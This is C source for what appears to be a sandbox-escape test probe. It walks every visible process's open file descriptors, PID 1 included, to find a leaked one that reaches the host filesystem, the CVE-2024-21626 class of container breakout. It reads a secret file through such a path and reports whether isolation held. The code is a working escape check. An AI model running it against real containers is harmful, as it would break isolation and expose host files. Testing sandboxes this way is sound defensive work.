// Looks through the descriptors of every visible process, PID 1 included, for one that leads out of
// the sandbox (the class of CVE-2024-21626): a directory from which the host's file can be reached,
// or any file on a mount that this mount namespace does not have. argv: PATH SECRET
#include <sys/ioctl.h>

#include "payload.h"

static const char *path_, *secret_;

static int mount_is_ours(long id) {
  static char text[1 << 20];
  static int loaded;
  if (!loaded) {
    int fd = open("/proc/self/mountinfo", O_RDONLY);
    size_t have = 1;
    text[0] = '\n';
    for (ssize_t n; (n = read(fd, text + have, sizeof text - have - 1)) > 0;) have += (size_t)n;
    close(fd);
    loaded = 1;
  }
  char needle[32];
  snprintf(needle, sizeof needle, "\n%ld ", id);
  return strstr(text, needle) != NULL;
}

static void look(const char* pid, const char* number) {
  char link[128], info[128], target[512], through[8192];
  snprintf(link, sizeof link, "/proc/%s/fd/%s", pid, number);
  ssize_t n = readlink(link, target, sizeof target - 1);
  if (n < 0) return;
  target[n] = 0;

  char up[256] = "";
  for (int i = 0; i < 32; ++i) strcat(up, "/..");
  snprintf(through, sizeof through, "%s%s%s", link, up, path_);
  if (path_holds(through, secret_) == 1)
    succeeded("%s -> %s leads to the host's root", link, target);
  snprintf(through, sizeof through, "%s%s", link, path_);
  if (path_holds(through, secret_) == 1) succeeded("%s -> %s is the host's root", link, target);

  // Sockets, pipes, anonymous inodes and memfds have no place in a tree.
  if (target[0] != '/' || !strncmp(target, "/memfd:", 7)) return;
  snprintf(info, sizeof info, "/proc/%s/fdinfo/%s", pid, number);
  FILE* f = fopen(info, "r");
  if (!f) return;
  long id = -1;
  for (char line[256]; fgets(line, sizeof line, f);) sscanf(line, "mnt_id: %ld", &id);
  fclose(f);
  if (id >= 0 && !mount_is_ours(id)) succeeded("%s -> %s is on a mount from outside", link, target);
}

static void attack(int argc, char** argv) {
  path_ = need(argc, argv, 1);
  secret_ = need(argc, argv, 2);
  DIR* proc = opendir("/proc");
  if (!proc) inconclusive("/proc: %s", strerror(errno));
  int seen = 0;
  for (struct dirent* e; (e = readdir(proc));) {
    if (!is_number(e->d_name)) continue;
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/fd", e->d_name);
    DIR* fds = opendir(path);
    if (!fds) continue;
    for (struct dirent* d; (d = readdir(fds));) {
      if (is_number(d->d_name) && ++seen) look(e->d_name, d->d_name);
    }
    closedir(fds);
  }
  if (seen < 3) inconclusive("only %d descriptors could be seen", seen);
  blocked_because("NONE of %d descriptors leads outside", seen);
}
